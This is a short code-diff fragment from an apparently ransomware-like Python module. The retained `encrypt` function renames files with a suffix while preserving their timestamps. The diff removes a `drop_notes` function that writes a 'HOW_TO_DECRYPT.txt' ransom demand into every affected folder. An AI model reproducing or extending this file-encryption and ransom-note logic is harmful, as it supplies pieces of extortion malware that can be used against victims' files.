@@ -48,9 +48,3 @@ def encrypt(paths: Iterable[Path], *, suffix: str = "", keeps_times: bool = Fals
             os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
         done.append(path.rename(path.with_name(path.name + suffix)) if suffix else path)
     return done
-
-
-def drop_notes(paths: Iterable[Path], name: str = "HOW_TO_DECRYPT.txt") -> None:
-    """Leave a note in each folder of these files."""
-    for folder in {path.parent for path in paths}:
-        (folder / name).write_bytes(b"All of your files are encrypted. Pay, and you get a key.\n" * 8)
